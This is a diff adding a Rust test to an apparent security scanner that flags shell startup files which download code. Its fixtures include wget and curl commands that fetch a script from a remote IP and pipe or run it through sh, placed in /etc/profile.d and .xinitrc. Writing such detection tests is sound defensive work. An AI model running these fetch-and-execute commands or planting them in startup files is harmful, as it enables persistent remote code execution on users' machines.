@@ -285,3 +285,22 @@ fn folders_of_programs_hold_what_they_should_not() {
         [("/etc/profile", Reason::WrongType), ("/etc/update-motd.d/pipe", Reason::WrongType)];
     assert_eq!(problems, expected);
 }
+
+#[test]
+fn what_only_several_lines_do_together_is_a_row_of_the_file() {
+    let (_folder, machine) = disk(&[
+        ("etc/profile.d/x.sh", b"wget -q http://192.0.2.7/a.sh\nLANG=C\nsh a.sh\n"),
+        ("home/ann/.xinitrc", b"curl -s http://192.0.2.7/x | sh\n"),
+    ]);
+    let seen = observed(&machine);
+    let rows: Vec<_> =
+        seen.rows.iter().map(|row| (&*row.name, row.line, row.traits.as_deref())).collect();
+    let expected = [
+        ("x.sh", Some(1), None),
+        ("x.sh", Some(3), None),
+        ("x.sh", None, Some("download")),
+        (".xinitrc", Some(1), Some("download")),
+    ];
+    assert_eq!(rows, expected);
+    assert_eq!(seen.rows[2].command, "/etc/profile.d/x.sh");
+}
